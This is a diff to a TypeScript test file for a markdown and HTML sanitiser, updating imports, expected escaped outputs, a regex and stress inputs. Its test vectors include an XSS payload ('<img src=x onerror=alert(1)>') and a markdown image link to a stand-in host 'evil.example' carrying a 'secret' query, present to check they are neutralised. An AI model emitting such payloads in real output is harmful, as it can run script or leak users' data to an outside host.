@@ -1,6 +1,7 @@
 import * as fc from "fast-check";
 import { describe, expect, test } from "vitest";
-import { fenced, htmlText, inlineText, safeMarkdown } from "../../../gateway/formats/markdown-text.ts";
+import { fenced, safeMarkdown } from "../../../gateway/formats/markdown-text.ts";
+import { htmlText, inlineText } from "../../../gateway/formats/markdown-words.ts";
 import { cases } from "../../support/property.ts";
 
 describe("prose of others", () => {
@@ -13,7 +14,7 @@ describe("prose of others", () => {
     ["```\nnever closed <b>", "```\nnever closed <b>\n```"],
     ["</details><img src=x onerror=alert(1)>", "&lt;/details>&lt;img src=x onerror=alert(1)>"],
     ["\\<b> \\\\<b>", "&lt;b> \\\\&lt;b>"],
-    ["![pixel](https://evil.example/?q=secret)", "!\\[pixel](https://evil.example/?q=secret)"],
+    ["![pixel](https://evil.example/?q=secret)", "&#33;[pixel](https://evil.example/?q=secret)"],
     ["# Prompt\n###### deep\n####### none", "### Prompt\n###### deep\n####### none"],
     ["Prompt\n===\nAnswer\n---", "Prompt\n\n===\nAnswer\n\n---"],
     ["a\r<b>\r\nc", "a\n&lt;b>\nc"],
@@ -67,7 +68,8 @@ describe("prose of others", () => {
         const inProse: string[] = [];
         for (const line of safeMarkdown(said).split("\n")) {
           const marks = /^(`{3,})[^`]*$/.exec(line)?.[1];
-          if (fence === undefined && marks === undefined) inProse.push(line.replaceAll(/(`+)[^`].*?\1/g, ""));
+          if (fence === undefined && marks === undefined)
+            inProse.push(line.replaceAll(/(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)/g, ""));
           fence = fence === undefined ? marks : line === fence ? undefined : fence;
         }
         expect(inProse.join("\n")).not.toContain("<zz>");
@@ -85,9 +87,14 @@ describe("prose of others", () => {
       `${"1. ".repeat(3e5)}x`,
       "<".repeat(1e6),
       `${"a:".repeat(5e5)} \`x\``,
+      "\\".repeat(3e5),
+      "a@".repeat(1e5),
+      `@${"b".repeat(3e5)}&`,
+      "](".repeat(1e5),
+      "(https://a.b/@x".repeat(6e4),
     ])
       expect(safeMarkdown(text).length).toBeGreaterThan(0);
-  }, 10_000);
+  }, 20_000);
 });
 
 describe("a fence", () => {
@@ -105,7 +112,7 @@ describe("a fence", () => {
 });
 
 test("short texts stay on one line, as words", () => {
-  expect(inlineText(" a\n# <b> [x](y) `c` ")).toBe("a \\# \\<b\\> \\[x\\](y) \\`c\\`");
+  expect(inlineText(" a\n# <b> [x](y) `c` ")).toBe("a &#35; &#60;b&#62; &#91;x&#93;(y) &#96;c&#96;");
   expect(htmlText('</summary>\n<img src="x">&')).toBe("&#60;/summary&#62; &#60;img src=&#34;x&#34;&#62;&#38;");
   expect(htmlText("🌍".repeat(200))).toHaveLength(119 * 2 + 1);
 });
